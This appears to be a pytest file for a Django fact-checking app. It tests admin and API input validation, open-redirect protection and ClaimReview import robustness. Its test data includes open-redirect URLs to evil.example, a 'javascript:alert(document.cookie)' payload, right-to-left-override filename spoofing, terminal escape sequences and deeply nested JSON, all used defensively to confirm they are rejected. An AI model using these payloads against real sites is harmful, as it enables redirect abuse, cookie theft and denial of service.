@pytest.mark.parametrize(("app_label", "model_name", "field_name"), _autocomplete_fields())
def test_admin_autocomplete_with_a_nul_term_is_a_400(admin_client, app_label, model_name, field_name):
    params = {"app_label": app_label, "model_name": model_name, "field_name": field_name}
    assert admin_client.get(reverse("admin:autocomplete"), {**params, "term": "ok"}).status_code == 200
    response = admin_client.get(reverse("admin:autocomplete"), {**params, "term": "\x00"})
    assert response.status_code == 400


def test_an_appearance_added_meanwhile_is_a_form_error_not_a_500(admin_client):
    from claims.models import Appearance

    claim = factories.ClaimFactory(text="Original text.")
    data = _change_form(admin_client, claim)
    Appearance.objects.create(claim=claim, url="https://b.example/a")  # by someone else, after the page was read
    data.update({"appearances-TOTAL_FORMS": "1", "appearances-0-url": "https://B.example/a#again"})
    before = state()
    response = admin_client.post(reverse("admin:claims_claim_change", args=[claim.pk]), data)
    assert response.status_code == 200
    assert "already appears at https://b.example/a" in " ".join(str(e) for e in response.context["errors"])
    assert state() == before
    assert claim.appearances.count() == 1


BAD_TAGS = [
    ("nul", NUL),
    ("bell", BELL),
    ("escape", "\x1b[31mred"),
    ("rlo", "gpj.\u202eexe"),
    ("isolate", "\u2067tag"),
    ("too-long", "t" * 65),
]


@pytest.mark.parametrize(("name", "tag"), BAD_TAGS, ids=[c[0] for c in BAD_TAGS])
def test_admin_tag_form_applies_the_apis_tag_rule(admin_client, reviewer_headers, name, tag):
    before = state()
    response = admin_client.post(reverse("admin:claims_tag_add"), {"name": tag})
    assert response.status_code == 200
    assert "name" in response.context["adminform"].form.errors
    api = admin_client.post(
        CLAIMS, {"text": "ok", "tags": [tag]}, content_type="application/json", headers=reviewer_headers
    )
    assert api.status_code == 400
    assert "tags" in api.json()
    assert state() == before


@pytest.mark.parametrize("tag", ["رأي", "AI 视频", "👩‍🔬", "fact\u200ccheck"])
def test_admin_tag_form_and_the_api_accept_the_same_good_tags(admin_client, reviewer_headers, tag):
    assert admin_client.post(reverse("admin:claims_tag_add"), {"name": tag}).status_code == 302
    api = admin_client.post(
        CLAIMS, {"text": "ok", "tags": [tag]}, content_type="application/json", headers=reviewer_headers
    )
    assert api.status_code == 201, api.json()
    assert list(Tag.objects.values_list("name", flat=True)) == [tag]


OFFSITE_NEXT = [
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example/",
    "https:///evil.example/",
    "http://testserver.evil.example/",
    "javascript:alert(document.cookie)",
    " https://evil.example/",
]


@pytest.mark.parametrize("next_url", OFFSITE_NEXT)
def test_add_selected_as_sources_does_not_follow_an_offsite_next(admin_client, next_url):
    link = "https://news.example.org/report/42"
    data = {"action": "add_sources", "link": [link], "link_all": [link], "link_text": ["r"], "next": next_url}
    response = admin_client.post(reverse("admin:claims_article_import"), data)
    assert response.status_code == 302
    assert response["Location"] == reverse("admin:claims_article_changelist")
    assert Source.objects.filter(url=link).exists()  # the sources are still added


def test_add_selected_as_sources_follows_a_next_on_this_site(admin_client):
    article = factories.ArticleFactory()
    for next_url in (
        reverse("admin:claims_article_change", args=[article.pk]),
        "http://testserver" + reverse("admin:claims_article_change", args=[article.pk]),
    ):
        response = admin_client.post(
            reverse("admin:claims_article_import"), {"action": "add_sources", "next": next_url}
        )
        assert response["Location"] == next_url


# --- The importers: a bad ClaimReview is one skipped item, whichever way it comes in -------------------------------


def _review(n: int, **overrides) -> dict:
    from tests.importers.test_claimreview import review

    texts = {1: "Claim one: the bridge was made of gold.", 3: "Claim three: seawater cures colds."}
    return review(n, **{"claimReviewed": texts.get(n, f"Claim {n}."), **overrides})


def _item_with(path: str, value) -> dict:
    """Review 2 with the value at a dotted path ("itemReviewed.author.name") replaced."""
    item = _review(2)
    *parents, last = path.split(".")
    target = item
    for part in parents:
        target = target[part]
    target[last] = value
    return item


@dataclass(frozen=True)
class BadReview:
    id: str
    content: str  # JSON text (json.dumps writes a lone surrogate as its \\u escape, as a hostile file would)
    reason: tuple[str, ...]  # words the skip's reason must contain
    whole_input: bool = False  # True: nothing in the input can be read, so it is the skipped item (beside good inputs)


DEEP_JSON = "[" * 100_000 + "]" * 100_000

CLAIMREVIEW_CASES = [
    BadReview(
        "claim-lone-surrogate", json.dumps(_item_with("claimReviewed", "Half \ud800")), ("claimReviewed", "surrogate")
    ),
    BadReview("claim-nul", json.dumps(_item_with("claimReviewed", NUL)), ("claimReviewed", "NUL")),
    BadReview("claim-escape", json.dumps(_item_with("claimReviewed", "\x1b[2Jgone")), ("claimReviewed", "U+001B")),
    BadReview("claim-1m", json.dumps(_item_with("claimReviewed", "x" * 1_000_039)), ("claimReviewed", "at most 2000")),
    BadReview("claimant-nul", json.dumps(_item_with("itemReviewed.author.name", NUL)), ("itemReviewed.author", "NUL")),
    BadReview("rating-surrogate", json.dumps(_item_with("reviewRating.alternateName", "\udfff")), ("reviewRating",)),
    BadReview("language-surrogate", json.dumps(_item_with("inLanguage", "\ud800")), ("inLanguage", "surrogate")),
    BadReview("headline-nul", json.dumps(_item_with("headline", NUL)), ("headline", "NUL")),
    BadReview("publisher-bell", json.dumps(_item_with("author.name", BELL)), ("author", "U+0007")),
    BadReview("explanation-30k", json.dumps(_item_with("reviewBody", "e" * 30_000)), ("reviewBody", "at most 20000")),
    BadReview("url-surrogate", json.dumps(_item_with("url", "https://c.example/\udc80")), ("url", "surrogates")),
    BadReview(
        "appearance-url-surrogate",
        json.dumps(_item_with("itemReviewed.firstAppearance.url", "https://b.example/\ud800")),
        ("itemReviewed.firstAppearance.url", "surrogate"),
    ),
    BadReview(
        "appearance-quote-nul",
        json.dumps(_item_with("itemReviewed.appearance", [{"url": "https://b.example/q", "text": NUL}])),
        ("itemReviewed.appearance[1].text", "NUL"),
    ),
    BadReview("json-100000-deep", DEEP_JSON, ("nested too deeply",), whole_input=True),
    BadReview("json-long-number", '{"ratingValue": ' + "1" * 5000 + "}", ("not valid JSON",), whole_input=True),
    BadReview(
        "ld-json-100000-deep",
        f'<html><script type="application/ld+json">{DEEP_JSON}</script></html>',
        ("ld+json block 1", "nested too deeply"),
        whole_input=True,
    ),
]


def _batch(case: BadReview) -> list[tuple[str, bytes]]:
    good = [json.dumps(_review(1)), json.dumps(_review(3))]
    if case.whole_input:
        return [
            ("good-1.json", good[0].encode()),
            ("bad.json", case.content.encode()),
            ("good-3.json", good[1].encode()),
        ]
    return [("batch.json", f"[{good[0]},{case.content},{good[1]}]".encode())]


def _import_through(entry: str, inputs, client, tmp_path) -> tuple[str, list[str]]:
    """The summary line each entry point shows for these inputs, and its skipped rows (item and reason) as text."""
    if entry == "service":
        from claims.importers.runner import claimreviews_import

        report = claimreviews_import(inputs)
        summary = report.table().splitlines()[-1].split(";")[0]
        return summary, [f"{r.label} {r.detail}" for r in report.rows if r.action == "skipped"]
    if entry == "command":
        from io import StringIO

        from django.core.management import call_command

        for name, content in inputs:
            (tmp_path / name).write_bytes(content)
        out = StringIO()
        call_command("import_claimreview", *(str(tmp_path / name) for name, _ in inputs), stdout=out, stderr=out)
        lines = out.getvalue().splitlines()
        return lines[-1].split(";")[0], [line for line in lines[2:-2] if "  skipped  " in line]
    files = [SimpleUploadedFile(name, content) for name, content in inputs]
    response = client.post(reverse("admin:claims_claim_import_claimreview"), {"files": files})
    assert response.status_code == 200
    page = " ".join(html.unescape(response.content.decode()).split())
    rows = [row for row in response.context["report"].rows if row.action == "skipped"]
    for row in rows:
        assert f"<td>{row.label}</td><td>skipped</td> <td></td> <td>{row.detail}</td>" in page
    summary = re.search(r"\d+ created, \d+ updated, \d+ linked, \d+ suggested, \d+ skipped", page).group(0)
    return summary, [f"{r.label} {r.detail}" for r in rows]


@pytest.mark.parametrize("entry", ["service", "command", "admin"])
@pytest.mark.parametrize("case", CLAIMREVIEW_CASES, ids=[c.id for c in CLAIMREVIEW_CASES])
def test_a_bad_claimreview_is_one_skipped_item_and_the_rest_is_imported(admin_client, tmp_path, entry, case):
    summary, skipped = _import_through(entry, _batch(case), admin_client, tmp_path)
    assert summary == "2 created, 0 updated, 0 linked, 0 suggested, 1 skipped"
    assert len(skipped) == 1, skipped
    for word in case.reason:
        assert word in skipped[0]
    assert set(Claim.objects.values_list("text", flat=True)) == {
        _review(1)["claimReviewed"],
        _review(3)["claimReviewed"],
    }
